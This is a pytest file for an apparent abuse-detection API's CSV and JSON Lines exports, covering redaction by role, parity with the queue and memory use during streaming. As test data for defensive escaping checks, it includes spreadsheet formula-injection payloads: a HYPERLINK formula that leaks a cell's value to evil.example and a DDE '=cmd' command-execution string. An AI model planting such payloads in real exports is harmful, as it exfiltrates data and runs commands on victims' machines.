"""Exports of the queue and of a case: CSV and JSON Lines rows equal the API's bodies (every page, filters
applied), redaction by role, spreadsheet-safe cells, hostile text round trips, and flat memory for 100k rows."""

from __future__ import annotations

import csv
import io
import json
import threading
import time
from datetime import timedelta

import httpx
import msgspec
import psutil
import pytest
from sqlalchemy import insert

from distillguard.api.app import create_app
from distillguard.api.cases import service as cases
from distillguard.api.database import session_scope
from distillguard.api.detections.models import AccountRow
from distillguard.api.detections.service import bump_epoch, upsert_detections
from distillguard.api.overrides import service as overrides
from distillguard.api.tabular import FORMULA_GUARD, FORMULA_LEADS, LIST_SEPARATOR, cell
from distillguard.detector.records import SubjectKind
from tests.api import seed
from tests.api.conftest import Api, served
from tests.api.test_api_authz import PROMPTS, SETUP
from tests.api.test_api_queue import _all

TEMPLATES = sorted({t for c in seed.build()[1] for t in c.shared_indicators.get("template", [])})
FILTERS = [
    {},
    {"flagged": True},
    {"min_score": 0.2, "max_score": 0.9},
    {"verification_path": "education"},
    {"indicator": "203.0.113.9"},
    {"status": "new", "min_size": 10},
]


def _export(api: Api, role: str, url: str = "/api/v1/detections/export", **params: object) -> httpx.Response:
    r = api.client.get(url, params=params, headers=api.h(role))
    assert r.status_code == 200, r.text[:300]
    return r


def _jsonl(r: httpx.Response) -> list[dict]:
    assert r.headers["content-type"].startswith("application/x-ndjson")
    return [json.loads(line) for line in r.text.splitlines()]


def _csv(r: httpx.Response) -> list[dict[str, str]]:
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


@pytest.mark.parametrize("kind", ["cluster", "account"])
@pytest.mark.parametrize("filters", FILTERS, ids=lambda f: ",".join(f) or "none")
def test_export_rows_are_the_queue_items_of_every_page(sqlite_api: Api, kind: str, filters: dict) -> None:
    key = f"{kind}_id"
    items = _all(sqlite_api, kind=kind, limit=7, **filters)
    rows = _jsonl(_export(sqlite_api, "analyst", kind=kind, format="jsonl", **filters))
    if kind == "cluster":
        assert all(
            set(r.pop("shared_indicators")) == set(i["indicator_kinds"]) for r, i in zip(rows, items, strict=True)
        )
    assert rows == items
    table = _csv(_export(sqlite_api, "analyst", kind=kind, format="csv", **filters))
    assert [r[key] for r in table] == [i[key] for i in items]
    where = "size" if kind == "cluster" else "cluster_id"  # a cluster's size, an account's cluster
    for r, i in zip(table, items, strict=True):
        assert float(r["score"]) == i["score"] and float(r["probability"]) == i["probability"]
        assert (r["action"], r["applied_action"], r["status"]) == (i["action"], i["applied_action"], i["status"])
        assert r["flagged"] == str(i["flagged"]).lower() and int(r["n_requests"]) == i["n_requests"]
        assert r["reasons"] == LIST_SEPARATOR.join(i["reasons"])
        assert r["last_seen"] == (i["last_seen"] or "") and r["first_seen"] == (i["first_seen"] or "")
        assert r[where] == str(i[where] or "")


def test_a_cluster_row_carries_its_shared_indicators_and_override(sqlite_api: Api) -> None:
    with session_scope(sqlite_api.url) as s:
        overrides.set_override(s, SETUP, SubjectKind.cluster, "c-hydra-2", "throttle", "until the case is decided")
    r = _export(sqlite_api, "viewer", format="csv", flagged=True)
    hydra2 = {row["cluster_id"]: row for row in _csv(r)}["c-hydra-2"]
    assert json.loads(hydra2["shared_indicators"]) == {
        "asn": ["64500"],
        "ip": ["203.0.113.9"],
        "payment_fingerprint": ["card-5511"],
    }
    assert [hydra2[c] for c in ("applied_action", "override.action", "override.by")] == [
        "throttle",
        "throttle",
        "setup",
    ]
    assert r.headers["content-disposition"] == 'attachment; filename="detections-cluster.csv"'


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_viewers_export_has_no_prompt_text_and_no_template(sqlite_api: Api, fmt: str) -> None:
    body = _export(sqlite_api, "viewer", format=fmt).text
    assert not [t for t in TEMPLATES + PROMPTS if t in body]
    assert "[redacted: short]" in body  # the template indicators show their size class only, as in the evidence
    case = _case(sqlite_api)
    body = _export(sqlite_api, "viewer", f"/api/v1/cases/{case}/export", format=fmt).text
    assert not [t for t in TEMPLATES + PROMPTS if t in body]
    for url in ("/api/v1/detections/export", f"/api/v1/cases/{case}/export"):
        refused = sqlite_api.client.get(url, params={"redact": False}, headers=sqlite_api.h("viewer"))
        assert refused.status_code == 403 and "'analyst'" in refused.json()["detail"]
    by_template = {"indicator": TEMPLATES[0], "indicator_kind": "template"}
    refused = sqlite_api.client.get("/api/v1/detections/export", params=by_template, headers=sqlite_api.h("viewer"))
    assert refused.status_code == 403 and "template" in refused.json()["detail"]
    clear = _export(sqlite_api, "analyst", format=fmt, redact=False, **by_template).text
    assert TEMPLATES[0] in clear  # an analyst asking redact=false sees the template


def test_a_bad_format_is_a_422_naming_the_field(sqlite_api: Api) -> None:
    for url in ("/api/v1/detections/export", f"/api/v1/cases/{_case(sqlite_api)}/export"):
        r = sqlite_api.client.get(url, params={"format": "xlsx"}, headers=sqlite_api.h("viewer"))
        assert r.status_code == 422 and "format" in r.json()["detail"], r.text
    r = sqlite_api.client.get("/api/v1/cases/99999/export", headers=sqlite_api.h("viewer"))
    assert r.status_code == 404 and r.json()["detail"] == "no case 99999"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    'quotes " and "" doubled, commas, , and\nnew\r\nlines',
    "中文 日本語 한국어 😀🛡️ e\u0301",
    "bidi \u202eevil\u202c \u2066isolate\u2069 \u200f",
    "plain text",
]


def test_csv_cells_are_neutralised_and_hostile_text_round_trips(sqlite_api: Api) -> None:
    """Each hostile text as a cluster id, a reason and an indicator: the CSV reader gives it back unchanged, but
    for the ``'`` before a cell that starts like a formula; JSON Lines gives it back unchanged."""
    _, clusters = seed.build()
    hostile = [
        msgspec.structs.replace(
            clusters[-1],
            cluster_id=f"{text[:40]}#{n}",
            score=0.99 - n / 100,
            reasons=[text],
            shared_indicators={"ip": [text]},
            model_version=text[:60],
        )
        for n, text in enumerate(HOSTILE)
    ]
    with session_scope(sqlite_api.url) as s:
        upsert_detections(s, [], hostile)
    table = _csv(_export(sqlite_api, "analyst", format="csv", min_score=0.9))
    rows = _jsonl(_export(sqlite_api, "analyst", format="jsonl", min_score=0.9))
    by_id = {r["cluster_id"]: r for r in rows}
    for c in hostile:
        text = c.reasons[0]
        shown = FORMULA_GUARD + text if text.startswith(FORMULA_LEADS) else text
        row = next(r for r in table if r["reasons"] == shown)
        assert row["cluster_id"] == (FORMULA_GUARD if text.startswith(FORMULA_LEADS) else "") + c.cluster_id
        assert row["model_version"] == (FORMULA_GUARD if text.startswith(FORMULA_LEADS) else "") + c.model_version
        assert json.loads(row["shared_indicators"]) == {"ip": [text]}
        assert by_id[c.cluster_id]["reasons"] == [text] and by_id[c.cluster_id]["model_version"] == c.model_version
    assert not [v for r in table for v in r.values() if v.startswith(FORMULA_LEADS)]


def test_cells_of_other_json_values() -> None:
    assert [cell(None), cell(True), cell(False), cell(-0.5), cell(3)] == ["", "true", "false", -0.5, 3]
    assert cell(["=a", "b"]) == "'=a; b" and cell({"b": [1], "a": "x"}) == '{"a":"x","b":[1]}'
    assert cell("-") == "'-" and cell("") == "" and cell("a=b") == "a=b"


def _case(api: Api) -> int:
    """A confirmed case on c-hydra with two dismissed resellers and a comment: its id."""
    with session_scope(api.url) as s:
        existing = cases.list_cases(s, subject_type="cluster")
        if existing:
            return existing[0].id
        case = cases.open_case(s, SETUP, "cluster", "c-hydra", "triage")
        cases.transition(s, SETUP, case, "in_review", None)
        cases.decide_accounts(s, SETUP, case, ["acct-r000", "acct-r001"], "dismissed", "resellers")
        cases.comment(s, SETUP, case, '=cmd|" /C calc"!A0')
        cases.transition(s, SETUP, case, "confirmed_attack", "cards and proxies")
        return case.id


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_case_exports_itself_its_accounts_indicators_and_audit(sqlite_api: Api, fmt: str) -> None:
    case_id = _case(sqlite_api)
    r = _export(sqlite_api, "analyst", f"/api/v1/cases/{case_id}/export", format=fmt)
    assert r.headers["content-disposition"] == f'attachment; filename="case-{case_id}.{fmt}"'
    rows = _jsonl(r) if fmt == "jsonl" else _csv(r)
    kinds = [row["record"] for row in rows]
    assert kinds == ["case"] + ["account"] * 42 + ["indicator"] * 8 + ["audit"] * 5
    head = sqlite_api.client.get(f"/api/v1/cases/{case_id}", headers=sqlite_api.h("viewer")).json()
    audit = sqlite_api.client.get(
        "/api/v1/audit", params={"entity_type": "case", "entity_id": case_id}, headers=sqlite_api.h("viewer")
    ).json()
    accounts = {row["account_id"]: row for row in rows if row["record"] == "account"}
    audits = [row for row in rows if row["record"] == "audit"]
    if fmt == "jsonl":
        assert {k: v for k, v in rows[0].items() if k != "record"} == {k: head[k] for k in rows[0] if k != "record"}
        assert [{k: v for k, v in a.items() if k != "record"} for a in audits] == audit
        assert accounts["acct-r000"]["case_decision"]["decision"] == "dismissed"
        assert accounts["acct-h000"]["case_decision"]["decision"] == "confirmed_attack"
        assert accounts["acct-h000"]["status"] == "confirmed_attack"
    else:
        assert rows[0]["id"] == str(case_id) and rows[0]["status"] == "confirmed_attack"
        assert accounts["acct-r000"]["case_decision.decision"] == "dismissed"
        assert accounts["acct-r000"]["case_decision.decided_by"] == "setup"
        assert [a["action"] for a in audits] == [e["action"] for e in audit]
        comment = next(a for a in audits if a["action"] == "case.comment")
        assert json.loads(comment["details"])["body"] == '=cmd|" /C calc"!A0'  # inside JSON: not a formula
    indicators = {(row["kind"], row["value"]) for row in rows if row["record"] == "indicator"}
    assert ("ip", "203.0.113.7") in indicators and ("template", "[redacted: short]") in indicators


# ---- memory: 100k accounts streamed in flat memory
N_ROWS = 100_000
MAX_GROWTH_MB = 50
MAX_EXPORT_SECONDS = 30
SAMPLE_SECONDS = 0.02
MB = 1024 * 1024


def _insert_accounts(url: str, n: int) -> float:
    """``n`` accounts inserted in bulk (one executemany); the rows per second it took."""
    template = seed.build()[0][0]
    start = time.perf_counter()
    base = msgspec.structs.asdict(template) | {
        "hourly_requests": {},  # detail-only columns: an export never reads them
        "sample_prompts": [],
        "reached_at": {},
        "content_hash": "0" * 32,
        "updated_at": template.first_seen,
        "status": "new",
        "cluster_id": None,
    }
    rows = [
        base
        | {
            "account_id": f"bulk-{i:06d}",
            "score": (i % 1000) / 1000,
            "last_seen": template.first_seen + timedelta(seconds=i),
            "reasons": [f"reason {i}", "=1+1"],
        }
        for i in range(n)
    ]
    with session_scope(url) as s:
        s.connection().execute(insert(AccountRow.__table__), rows)
        bump_epoch(s)
    return n / (time.perf_counter() - start)


@pytest.mark.slow  # about 20 s on two busy cores: 100k rows inserted, then streamed
def test_exporting_100k_accounts_keeps_memory_flat(sqlite_api: Api) -> None:
    rate = _insert_accounts(sqlite_api.url, N_ROWS)
    process = psutil.Process()
    peak = 0
    done = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not done.is_set():
            peak = max(peak, process.memory_info().rss)
            time.sleep(SAMPLE_SECONDS)

    lines = 0
    with served(create_app(sqlite_api.settings, outbox_loop=False)) as base:
        start = time.perf_counter()
        before = process.memory_info().rss
        sampler = threading.Thread(target=sample)
        sampler.start()
        try:
            params = {"kind": "account", "format": "csv"}
            with httpx.stream(
                "GET",
                f"{base}/api/v1/detections/export",
                params=params,
                headers=sqlite_api.h("viewer"),
                timeout=MAX_EXPORT_SECONDS,
            ) as r:
                assert r.status_code == 200
                for chunk in r.iter_bytes():
                    lines += chunk.count(b"\n")
        finally:
            done.set()
            sampler.join()
        took = time.perf_counter() - start
    growth = (peak - before) / MB
    print(f"inserted {rate:,.0f} rows/s; exported {N_ROWS:,} rows in {took:.1f} s; RSS growth {growth:.1f} MB")
    assert lines == 1 + N_ROWS + 133  # the header, the bulk rows and the seed's accounts
    assert growth < MAX_GROWTH_MB
